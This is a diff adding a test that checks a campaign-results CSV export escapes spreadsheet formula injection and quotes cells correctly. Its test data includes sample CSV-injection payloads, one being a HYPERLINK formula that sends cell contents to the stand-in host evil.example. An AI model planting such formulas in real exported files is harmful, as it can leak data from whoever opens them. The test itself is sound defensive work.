@@ -408,3 +408,27 @@ def test_campaign_events_reach_a_subscribed_endpoint_signed(api):
     [finalized] = [e for e in events if e["type"] == "campaign.contact_finalized"]
     assert finalized["data"]["campaign_id"] == campaign_id and finalized["data"]["status"] == "completed"
     assert finalized["data"]["external_id"] == "patient-7" and finalized["data"]["metadata"] == {"clinic": "north"}
+
+
+HOSTILE_IDS = {  # what a contact's free text may hold -> what the export must show
+    '=HYPERLINK("https://evil.example/?x="&A1,"Click")': '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+    "@SUM(1+1)": "'@SUM(1+1)", "+1+1": "'+1+1", "-1+1": "'-1+1", "\t=1+1": "'\t=1+1", "\r=1+1": "'\r=1+1",
+    "a\rb": "a\rb", "first\nsecond": "first\nsecond", 'say "hi", then, go': 'say "hi", then, go',
+    "-42": "-42", "+15551234567": "+15551234567", "plain-id": "plain-id"}
+
+
+def test_results_csv_neutralises_formulas_and_keeps_each_contact_one_row(api):
+    """RFC 4180 (CRLF rows; a cell with a comma, quote, CR or LF quoted) and OWASP's CSV-injection
+    rule: a cell starting with = + - @ tab or CR gets a leading '. A plain number (an E.164
+    number, -42) is written as it is: it cannot be a formula."""
+    campaign_id = create(api)
+    phones = {external_id: number() for external_id in HOSTILE_IDS}
+    add(api, campaign_id, [contact(phones[e], external_id=e) for e in HOSTILE_IDS])
+    response = call(api, "GET", f"/campaigns/{campaign_id}/results.csv")
+    assert response.status_code == 200, response.text
+    assert response.content.endswith(b"\r\n") and response.content.count(b"\r\n") == len(HOSTILE_IDS) + 1
+    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    assert len(rows) == len(HOSTILE_IDS) + 1 and all(len(r) == len(rows[0]) for r in rows)
+    written = {r[rows[0].index("phone_number")]: r[rows[0].index("external_id")] for r in rows[1:]}
+    assert written == {phones[e]: shown for e, shown in HOSTILE_IDS.items()}
+
